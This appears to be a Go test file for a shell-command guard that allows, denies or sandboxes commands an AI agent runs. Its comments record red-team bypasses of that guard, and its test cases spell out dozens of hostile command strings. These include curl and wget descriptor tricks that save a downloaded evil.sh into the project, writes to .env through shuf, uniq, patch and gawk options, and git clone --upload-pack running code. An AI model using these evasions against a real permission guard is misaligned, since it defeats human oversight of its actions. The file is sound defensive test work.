package rewrite

import (
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
)

// TestDescriptorRouteDownloads (red team acq): a download saved to a
// path naming one of the downloader's descriptors (curl -o /dev/stderr,
// -o /dev/fd/3, wget -O /dev/stderr) was followed down the pipe of the
// downloader's stdout, not the one the descriptor points at: with 2>&1
// >/dev/null the body goes down the pipe while stdout goes to /dev/null,
// and cat > f wrote it into the project (allow). The pipe the
// descriptor names is followed now. Look-alikes: the pipe's reader
// writes no file, the descriptor is /dev/null, stdout alone is piped.
func TestDescriptorRouteDownloads(t *testing.T) {
	t.Parallel()
	u := "https://h.example/evil.sh"
	testRule(t, "curl", []ruleCase{
		{"curl -s -o /dev/stderr " + u + " 2>&1 >/dev/null | cat > evil.sh", Rewrite},
		{"curl -o /dev/stderr " + u + " 2>&1 >/dev/null | tee evil.sh", Rewrite},
		{"curl -so /dev/stderr " + u + " 2>&1 1>/dev/null | sort -o evil.sh", Rewrite},
		{"curl -o /dev/fd/2 " + u + " 2>&1 >/dev/null | cat > evil.sh", Rewrite},
		{"curl -o /dev/stderr " + u + " 3>&1 1>&2 2>&3 | cat > evil.sh", Rewrite},
		{"curl -o /dev/fd/3 " + u + " 3>&1 >/dev/null | tee evil.sh", Rewrite},
		{"curl -s -o /dev/stderr " + u + " 2>&1 >/dev/null | wc -c", Allow},
		{"curl -s -o /dev/stderr " + u + " 2>/dev/null | cat > out.txt", Allow},
		{"curl -s -o /dev/null " + u + " 2>&1 | cat > err.txt", Allow},
		{"curl -s " + u + " 2>/dev/null | sha256sum", Allow},
	})
	testRule(t, "wget", []ruleCase{
		{"wget -qO /dev/stderr " + u + " 2>&1 >/dev/null | cat > evil.sh", Rewrite},
		{"wget -qO /dev/stderr " + u + " 2>&1 >/dev/null | wc -c", Allow},
	})
}

// TestDescriptorRouteDownloadsOracle runs the attack with the real curl
// and bash against a loopback server: the body lands in the project's
// file as written, and the rewritten command puts it in the sandbox.
func TestDescriptorRouteDownloadsOracle(t *testing.T) {
	t.Parallel()
	curl, err := exec.LookPath("curl")
	if err != nil {
		t.Skip("no curl")
	}
	bash, err := exec.LookPath("bash")
	if err != nil {
		t.Skip("no bash")
	}
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { w.Write([]byte("echo PWNED\n")) }))
	defer srv.Close()
	for _, tmpl := range []string{
		"curl -s -o /dev/stderr URL 2>&1 >/dev/null | cat > evil.sh",
		"curl -s -o /dev/fd/3 URL 3>&1 >/dev/null | tee evil.sh >/dev/null",
	} {
		cmd := strings.ReplaceAll(tmpl, "URL", srv.URL+"/a")
		run := func(dir, text string) {
			c := exec.Command(bash, "-c", text)
			c.Dir = dir
			c.Env = []string{"PATH=" + filepath.Dir(curl) + ":/usr/bin:/bin", "HOME=" + dir}
			if out, err := c.CombinedOutput(); err != nil {
				t.Errorf("%s: %v %s", text, err, out)
			}
		}
		plain := t.TempDir()
		run(plain, cmd)
		if b, _ := os.ReadFile(filepath.Join(plain, "evil.sh")); string(b) != "echo PWNED\n" {
			t.Errorf("%s: the real command wrote %q to evil.sh, want the body (the attack no longer works as modelled)", cmd, b)
		}
		proj := t.TempDir()
		sb := filepath.Join(proj, "agent_sandbox")
		if err := os.Mkdir(sb, 0o755); err != nil {
			t.Fatal(err)
		}
		r := Check(&Config{Cwd: proj, Project: proj, Home: proj, Sandbox: sb, Mode: ModeRewrite, Approve: ApproveAuto}, cmd)
		if r.Decision != Rewrite {
			t.Errorf("%s: %s %v, want rewrite", cmd, r.Decision, r.Findings)
			continue
		}
		run(proj, r.Rewritten)
		if _, err := os.Stat(filepath.Join(proj, "evil.sh")); err == nil {
			t.Errorf("%s: the rewritten %s left evil.sh in the project", cmd, r.Rewritten)
		}
		if b, _ := os.ReadFile(filepath.Join(sb, "evil.sh")); string(b) != "echo PWNED\n" {
			t.Errorf("%s: the rewritten %s left %q in the sandbox's evil.sh, want the body", cmd, r.Rewritten, b)
		}
	}
}

// TestOutputOptionReadings (red team acq): shuf -e was read as taking a
// value (shuf -eo F A B wrote F unguarded), shuf, uniq and patch did not
// take their long options by prefix as getopt_long does (shuf --out=F,
// patch --out=F), and uniq --group/--all-repeated took the next word as
// their value, which they only take attached (uniq --group IN OUT writes
// OUT). Look-alikes keep their decision.
func TestOutputOptionReadings(t *testing.T) {
	t.Parallel()
	testRuleWith(t, guardedConfig(), "bash-write", []ruleCase{
		{"shuf -eo .env a b", Deny},
		{"shuf -zeo .env a b", Deny},
		{"shuf --out=.env x", Deny},
		{"shuf --outp .env x", Deny},
		{"uniq --group x .env", Deny},
		{"uniq --all-repeated x .env", Deny},
		{"uniq --gro x .env", Deny},
		{"uniq --skip-f 1 x .env", Deny},
		{"patch --out=.env a x.patch", Deny},
		{"patch --outp=.env a x.patch", Deny},
		{"shuf -e a b", Allow},
		{"shuf -eo out.txt a b", Allow},
		{"shuf --out=out.txt x", Allow},
		{"uniq --group x", Allow},
		{"uniq --group=append x out.txt", Allow},
		{"uniq --count x", Allow},
		{"patch --out=out.txt a x.patch", Allow},
	})
}

// TestOutputOptionReadingsOracle checks the readings with the real
// programs: each writes the file the reading names.
func TestOutputOptionReadingsOracle(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct{ prog, script string }{
		{"shuf", "shuf -eo OUT x"},
		{"shuf", "shuf --out=OUT in.txt"},
		{"uniq", "uniq --group in.txt OUT"},
		{"uniq", "uniq --all-repeated in.txt OUT"},
		{"patch", "patch -s --out=OUT in.txt x.patch"},
	} {
		t.Run(tc.script, func(t *testing.T) {
			if _, err := exec.LookPath(tc.prog); err != nil {
				t.Skip("no " + tc.prog)
			}
			dir := t.TempDir()
			if err := os.WriteFile(filepath.Join(dir, "in.txt"), []byte("x\nx\n"), 0o644); err != nil {
				t.Fatal(err)
			}
			if err := os.WriteFile(filepath.Join(dir, "x.patch"), []byte("--- in.txt\n+++ in.txt\n@@ -1,2 +1,2 @@\n-x\n+y\n x\n"), 0o644); err != nil {
				t.Fatal(err)
			}
			args := strings.Fields(strings.ReplaceAll(tc.script, "OUT", "written"))
			c := exec.Command(args[0], args[1:]...)
			c.Dir = dir
			if out, err := c.CombinedOutput(); err != nil {
				t.Fatalf("%s: %v %s", tc.script, err, out)
			}
			if _, err := os.Stat(filepath.Join(dir, "written")); err != nil {
				t.Errorf("%s did not write the file the reading names: %v", tc.script, err)
			}
		})
	}
}

// TestGitProgramOptionOracle checks with the real git that clone takes
// --upload-pack by a prefix and -u in a cluster, and runs the program
// for a file:// repository: approve.go's gitSubOptionRunsCode.
func TestGitProgramOptionOracle(t *testing.T) {
	t.Parallel()
	git, err := exec.LookPath("git")
	if err != nil {
		t.Skip("no git")
	}
	repo := t.TempDir()
	for _, args := range [][]string{{"init", "-q"}, {"-c", "user.name=x", "-c", "user.email=x@x", "commit", "-q", "--allow-empty", "-m", "x"}} {
		c := exec.Command(git, args...)
		c.Dir = repo
		if out, err := c.CombinedOutput(); err != nil {
			t.Fatalf("git %v: %v %s", args, err, out)
		}
	}
	for _, form := range [][]string{{"--upload=P"}, {"--upl", "P"}, {"-qu", "P"}, {"-uP"}} {
		dir := t.TempDir()
		marker := filepath.Join(dir, "ran")
		prog := "sh -c 'touch " + marker + "; exec git-upload-pack \"$@\"' x"
		var args []string
		for _, a := range form {
			args = append(args, strings.ReplaceAll(a, "P", prog))
		}
		args = append(append([]string{"clone", "-q"}, args...), "file://"+repo, filepath.Join(dir, "c"))
		out, _ := exec.Command(git, args...).CombinedOutput()
		if _, err := os.Stat(marker); err != nil {
			t.Errorf("git clone %v did not run the program (%s): the reading is wrong", form, out)
		}
		cfg := &Config{Cwd: "/p", Project: "/p", Home: "/h", Sandbox: "/sb", Mode: ModeRewrite, Approve: ApproveAuto}
		cmd := "git clone " + strings.Join(form, " ") + " https://x/a/b.git"
		if r := Check(cfg, cmd); r.Approve {
			t.Errorf("%s: approved, want no decision (it runs P)", cmd)
		}
	}
}

// TestSystemWgetrc (red team acq): wget reads the file SYSTEM_WGETRC
// names whatever --config says, and its output_document overrides the
// -P the rewrite adds: SYSTEM_WGETRC=./cfg wget URL saved into the
// project (rewritten and approved). It asks now, as WGETRC does.
func TestSystemWgetrc(t *testing.T) {
	t.Parallel()
	testRule(t, "wget", []ruleCase{
		{"SYSTEM_WGETRC=./cfg wget https://h.example/a", Ask},
		{"env SYSTEM_WGETRC=./cfg wget https://h.example/a", Ask},
		{"SYSTEM_WGETRC=./cfg wget --config=/dev/null https://h.example/a", Ask},
		{"wget https://h.example/a", Rewrite},
		{"wget --no-config https://h.example/a", Rewrite},
	})
	wget, err := exec.LookPath("wget")
	if err != nil {
		t.Skip("no wget")
	}
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { w.Write([]byte("echo PWNED\n")) }))
	defer srv.Close()
	dir := t.TempDir()
	if err := os.WriteFile(filepath.Join(dir, "cfg"), []byte("output_document = evil.sh\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	c := exec.Command(wget, "-q", "-P", filepath.Join(dir, "sandbox"), srv.URL+"/a")
	c.Dir = dir
	c.Env = []string{"SYSTEM_WGETRC=./cfg", "HOME=" + dir, "PATH=/usr/bin:/bin"}
	if out, err := c.CombinedOutput(); err != nil {
		t.Fatalf("wget: %v %s", err, out)
	}
	if _, err := os.Stat(filepath.Join(dir, "evil.sh")); err != nil {
		t.Errorf("wget with SYSTEM_WGETRC did not save where output_document says: %v", err)
	}
}

// TestCurlServerTextStreams (red team acq): what the server sends
// besides the body reached a project file through a descriptor: a -w
// format's %header{NAME}, %{content_type}, %{redirect_url}, %{json}
// (curl -s -o /dev/null -w '%header{x}' URL > f), after %{stderr} with
// 2> f, and the header dump or a trace written to stdout or stderr (-D -,
// --trace-ascii /dev/stderr 2> f), all allowed while -D f itself moves.
// They move into the sandbox as the body does. Look-alikes: a format of
// the transfer's numbers, an escaped %%, nothing redirected to a file.
func TestCurlServerTextStreams(t *testing.T) {
	t.Parallel()
	u := " https://h.example/a"
	testRule(t, "curl", []ruleCase{
		{"curl -s -o /dev/null -w '%header{x}'" + u + " > evil.sh", Rewrite},
		{"curl -s -o /dev/null -w '%{stderr}%header{x}'" + u + " 2> evil.sh", Rewrite},
		{"curl -s -o /dev/null -w '%{stderr}%header{x}'" + u + " 2>&1 | tee evil.sh", Rewrite},
		{"curl -s -o /dev/null -w '%{content_type}'" + u + " > evil.sh", Rewrite},
		{"curl -s -o /dev/null -w '%{redirect_url}'" + u + " > evil.sh", Rewrite},
		{"curl -s -o /dev/null -w '%{json}'" + u + " > evil.json", Rewrite},
		{"curl -s -o /dev/null -w '%{header_json}'" + u + " | jq . > evil.json", Rewrite},
		{"curl -s -D - -o /dev/null" + u + " > evil.sh", Rewrite},
		{"curl -s -D /dev/stderr -o /dev/null" + u + " 2> evil.sh", Rewrite},
		{"curl -s --trace-ascii % -o /dev/null" + u + " 2> evil.sh", Rewrite},
		{"curl -s -o /dev/null -w '%{http_code}'" + u + " > code.txt", Allow},
		{"curl -s -o /dev/null -w '%{time_total} %{size_download}\\n'" + u + " >> times.txt", Allow},
		{"curl -s -o /dev/null -w '%{stderr}%{http_code}'" + u + " 2> code.txt", Allow},
		{"curl -s -o /dev/null -w '%{stderr}%header{x}'" + u + " > out.txt", Allow},
		{"curl -s -o /dev/null -w '%%header{x}'" + u + " > out.txt", Allow},
		{"curl -s -o /dev/null -w '%header{x}'" + u, Allow},
		{"curl -s -D - -o /dev/null" + u, Allow},
		{"curl -s -D /dev/null -o /dev/null" + u + " > out.txt", Allow},
	})
}

// TestCurlServerTextStreamsOracle runs the write-out attack with the real
// curl against a loopback server that sends the code as a header: it
// lands in the project's file as written, and in the sandbox rewritten.
func TestCurlServerTextStreamsOracle(t *testing.T) {
	t.Parallel()
	curl, err := exec.LookPath("curl")
	if err != nil {
		t.Skip("no curl")
	}
	bash, err := exec.LookPath("bash")
	if err != nil {
		t.Skip("no bash")
	}
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("X", "echo PWNED")
		w.Write([]byte("body\n"))
	}))
	defer srv.Close()
	for _, tmpl := range []string{
		"curl -s -o /dev/null -w '%header{x}' URL > evil.sh",
		"curl -s -o /dev/null -w '%{stderr}%header{x}' URL 2> evil.sh",
	} {
		t.Run(tmpl, func(t *testing.T) {
			cmd := strings.ReplaceAll(tmpl, "URL", srv.URL+"/a")
			run := func(dir, text string) {
				c := exec.Command(bash, "-c", text)
				c.Dir = dir
				c.Env = []string{"PATH=" + filepath.Dir(curl) + ":/usr/bin:/bin", "HOME=" + dir}
				if out, err := c.CombinedOutput(); err != nil {
					t.Errorf("%s: %v %s", text, err, out)
				}
			}
			plain := t.TempDir()
			run(plain, cmd)
			if b, _ := os.ReadFile(filepath.Join(plain, "evil.sh")); string(b) != "echo PWNED" {
				t.Skipf("this curl does not write %%header (got %q)", b)
			}
			proj := t.TempDir()
			sb := filepath.Join(proj, "agent_sandbox")
			if err := os.Mkdir(sb, 0o755); err != nil {
				t.Fatal(err)
			}
			r := Check(&Config{Cwd: proj, Project: proj, Home: proj, Sandbox: sb, Mode: ModeRewrite, Approve: ApproveAuto}, cmd)
			if r.Decision != Rewrite {
				t.Fatalf("%s: %s %v, want rewrite", cmd, r.Decision, r.Findings)
			}
			run(proj, r.Rewritten)
			if _, err := os.Stat(filepath.Join(proj, "evil.sh")); err == nil {
				t.Errorf("the rewritten %s left evil.sh in the project", r.Rewritten)
			}
			if b, _ := os.ReadFile(filepath.Join(sb, "evil.sh")); string(b) != "echo PWNED" {
				t.Errorf("the rewritten %s left %q in the sandbox's evil.sh", r.Rewritten, b)
			}
		})
	}
}

// TestGawkReportFiles (red team acq): gawk's -o/--pretty-print,
// -d/--dump-variables and -p/--profile write a file named by an attached
// value (or awkprof.out, awkvars.out), and an @include "inplace" in the
// program text or an -e text edits the operands as -i inplace does; all
// passed unguarded (gawk -d/ROOT/.bashrc 1 x). gawk's long options are
// taken by prefix (--dump=F). Look-alikes: the reports to /dev/stdout,
// /dev/null or a project file, another @include, a plain program.
func TestGawkReportFiles(t *testing.T) {
	t.Parallel()
	testRuleWith(t, guardedConfig(), "bash-write", []ruleCase{
		{"gawk -o.env 1 x", Deny},
		{"gawk --pretty-print=.env 1 x", Deny},
		{"gawk --pretty=.env 1 x", Deny},
		{"gawk -d.env 1 x", Deny},
		{"gawk --dump=.env 1 x", Deny},
		{"gawk -p.env 1 x", Deny},
		{"gawk --profile=.env 1 x", Deny},
		{"gawk -e '@include \"inplace\"' -e 1 .env", Deny},
		{"gawk '@include \"inplace\"; 1' .env", Deny},
		{"gawk -o 1 x", Allow},
		{"gawk -d 1 x", Allow},
		{"gawk -o/dev/stdout 1 x", Allow},
		{"gawk -d/dev/null 1 x", Allow},
		{"gawk -oout.awk 1 x", Allow},
		{"gawk '@include \"lib\"; 1' .env", Allow},
		{"gawk '{print}' .env", Allow},
		{"gawk -L 1 x", Allow},
	})
	gawk, err := exec.LookPath("gawk")
	if err != nil {
		t.Skip("no gawk")
	}
	for _, tc := range []struct{ args []string }{{[]string{"-dwritten", "1", "/dev/null"}}, {[]string{"--dump=written", "1", "/dev/null"}},
		{[]string{"-owritten", "1", "/dev/null"}}} {
		dir := t.TempDir()
		c := exec.Command(gawk, tc.args...)
		c.Dir = dir
		if out, err := c.CombinedOutput(); err != nil {
			t.Errorf("gawk %v: %v %s", tc.args, err, out)
		}
		if _, err := os.Stat(filepath.Join(dir, "written")); err != nil {
			t.Errorf("gawk %v wrote no file named written: %v", tc.args, err)
		}
	}
}

// TestSshKeygenDefaultFiles (red team acq): ssh-keygen -R HOST and -H
// rewrite ~/.ssh/known_hosts when -f names no file, and -s CA signs
// KEY.pub into KEY-cert.pub beside it; all passed. Look-alikes: -F
// (finds), -l (prints), -R with -f naming a project file.
func TestSshKeygenDefaultFiles(t *testing.T) {
	t.Parallel()
	testRuleWith(t, guardedConfig(), "bash-write", []ruleCase{
		{"ssh-keygen -R box", Deny},
		{"ssh-keygen -H", Deny},
		{"ssh-keygen -s ca -I x ~/.ssh/id_rsa.pub", Deny},
		{"ssh-keygen -F box", Allow},
		{"ssh-keygen -lf ~/.ssh/id_rsa.pub", Allow},
		{"ssh-keygen -R box -f kh", Allow},
		{"ssh-keygen -s ca -I x k.pub", Allow},
	})
	keygen, err := exec.LookPath("ssh-keygen")
	if err != nil {
		t.Skip("no ssh-keygen")
	}
	// -R's default is the passwd entry's home, not $HOME: only -s is
	// run here, in a scratch directory.
	dir := t.TempDir()
	for _, args := range [][]string{{"-q", "-t", "ed25519", "-N", "", "-f", "ca"}, {"-q", "-t", "ed25519", "-N", "", "-f", "k"}, {"-q", "-s", "ca", "-I", "x", "k.pub"}} {
		c := exec.Command(keygen, args...)
		c.Dir = dir
		if out, err := c.CombinedOutput(); err != nil {
			t.Fatalf("ssh-keygen %v: %v %s", args, err, out)
		}
	}
	if _, err := os.Stat(filepath.Join(dir, "k-cert.pub")); err != nil {
		t.Errorf("ssh-keygen -s wrote no k-cert.pub: %v", err)
	}
}

// TestCurlStderrFile (red team acq): with --stderr F, what curl sends to
// its stderr (a write-out after %{stderr} in newer curls, a trace to %)
// lands in F; F moves into the sandbox when that holds what the server
// sent. Look-alikes: --stderr with nothing of the server's, or /dev/null.
func TestCurlStderrFile(t *testing.T) {
	t.Parallel()
	u := " https://h.example/a"
	testRule(t, "curl", []ruleCase{
		{"curl -s --stderr evil.sh -o /dev/null -w '%{stderr}%header{x}'" + u, Rewrite},
		{"curl -s --stderr - -o /dev/null -w '%{stderr}%header{x}'" + u + " > evil.sh", Rewrite},
		{"curl -s --stderr evil.sh --trace-ascii % -o /dev/null" + u, Rewrite},
		{"curl -s --stderr err.txt -o /dev/null" + u, Allow},
		{"curl -s --stderr err.txt -o /dev/null -w '%{stderr}%{http_code}'" + u, Allow},
		{"curl -s --stderr /dev/null -o /dev/null -w '%{stderr}%header{x}'" + u, Allow},
	})
}
